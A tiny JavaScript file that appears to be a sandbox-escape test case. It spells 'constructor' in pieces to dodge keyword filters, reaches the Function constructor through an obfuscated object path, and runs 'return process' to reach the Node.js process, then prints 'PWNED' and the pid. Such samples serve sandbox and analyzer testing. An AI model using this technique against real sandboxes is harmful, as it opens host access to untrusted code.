'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
const s = new Map();
s.set(t, 1);
const o = Date.now() > 1 ? [...s.keys()][0] : {};
console.log('PWNED', o.go(fn)('return process')().pid);
